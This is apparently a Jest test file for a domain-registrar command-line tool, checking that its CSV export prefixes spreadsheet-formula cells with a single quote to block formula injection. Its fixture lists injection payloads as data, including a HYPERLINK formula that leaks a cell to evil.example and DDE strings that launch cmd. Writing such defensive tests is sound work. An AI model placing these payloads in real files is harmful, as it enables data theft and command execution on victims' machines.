// `-o csv` and spreadsheets: a cell of the server's text that begins with = + - @, a tab or a
// carriage return would be a live formula in Excel, LibreOffice or Google Sheets (an owner
// named =HYPERLINK(...) in the registrar's export). Such a text cell is written with a
// single quote before it (OWASP's advice); a number stays a number. Through the real
// executable, against a node:http server that answers the domain list.
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, test } from "@jest/globals";
import { parse } from "csv-parse/sync";
import { EXIT } from "../src/exit-codes.js";
import { type ProcessRun, STATE_HOME, spawnCdrapi } from "./helpers/cli.js";

/** Each owner name, and the cell a spreadsheet must read. */
const OWNERS: Array<[string, string, string]> = [
  [
    "=",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    `'=HYPERLINK("http://evil.example/?d="&A1,"click")`,
  ],
  ["+", "+84 28 3823 4567", "'+84 28 3823 4567"],
  ["-", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["@", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ["a tab", "\t=1+1", "'\t=1+1"],
  ["a carriage return", "\r=1+1", "'\r=1+1"],
  ["a letter", "Trần Thị Bình", "Trần Thị Bình"],
  ["a formula character later on", "Công ty A=B", "Công ty A=B"],
];

let server: Server;
let run: ProcessRun;
let rows: Record<string, string>[];

beforeAll(async () => {
  const list = OWNERS.map(([, ownerName], i) => ({ domainName: `d${i}.vn`, ownerName, balance: -5 - i }));
  server = createServer((_request, response) => {
    response.setHeader("content-type", "application/json");
    response.end(JSON.stringify([...list, { domainName: "x.vn", "=field": "a server's field name" }]));
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  run = await spawnCdrapi(["domains", "list", "-o", "csv"], {
    env: {
      XDG_STATE_HOME: STATE_HOME,
      CDRAPI_REPORTING_URL: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
      CDRAPI_REPORTING_USERNAME: "registrar",
      CDRAPI_REPORTING_PASSWORD: "registrar-password",
    },
  });
  rows = parse(run.stdout, { columns: true, relax_column_count: true }) as Record<string, string>[];
});
afterAll(() => new Promise<void>((done) => server.close(() => done())));

test("the list is written", () => {
  expect(run.stderr).toBe("");
  expect(run.code).toBe(EXIT.OK);
  expect(rows).toHaveLength(OWNERS.length + 1);
});

test.each(
  OWNERS.map(([first, , cell], i) => [first, cell, i] as const),
)("an owner name beginning with %s", (_first, cell, i) => {
  expect(rows[i]!.ownerName).toBe(cell);
});

test("a negative number stays a number", () => {
  expect(rows.map((row) => row.balance)).toEqual([...OWNERS.map((_, i) => String(-5 - i)), ""]);
});

test("a field name is a cell too", () => {
  expect(Object.keys(rows[0]!)).toEqual(["domainName", "ownerName", "balance", "'=field"]);
});
